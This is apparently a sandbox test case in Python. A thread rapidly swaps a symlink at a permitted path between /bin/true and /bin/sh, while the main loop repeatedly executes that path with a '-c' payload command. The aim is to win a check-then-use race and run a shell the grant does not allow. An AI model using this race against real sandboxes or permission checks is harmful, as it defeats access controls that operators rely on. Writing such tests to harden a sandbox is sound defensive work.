"""The same link, which changes while the program starts."""
CATEGORY = "races"
REACH = "run"
GRANT = {"run": ["true"], "write": ["@ROOT@/home"], "read": ["@ROOT@/home"]}

import os
import subprocess
import threading
import time

from . import payload


def attack():
    path, other = payload.ROOT + "/home/true", payload.ROOT + "/home/other"
    ends = time.monotonic() + 0.7

    def flip():
        while time.monotonic() < ends:
            for target in "/bin/true", "/bin/sh":
                os.symlink(target, other)
                os.replace(other, path)

    thread = threading.Thread(target=flip)
    thread.start()
    while time.monotonic() < ends:
        try:
            subprocess.call([path, "-c", payload.COMMAND])
        except OSError:
            pass
    thread.join()
